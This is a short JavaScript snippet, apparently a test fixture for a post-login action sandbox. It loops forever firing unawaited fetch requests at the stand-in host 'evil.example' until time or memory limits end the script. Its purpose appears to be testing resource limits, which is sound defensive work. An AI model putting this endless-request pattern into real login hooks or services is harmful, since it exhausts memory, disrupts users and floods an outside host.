// Requests without end, none of them awaited. Ends: timeLimit or memoryLimit
// After a while the parent sends no more refusals; the promises fill the memory of the script.
exports.onExecutePostLogin = async (event, api) => {
  for (;;) fetch('https://evil.example/').catch(() => {});
};
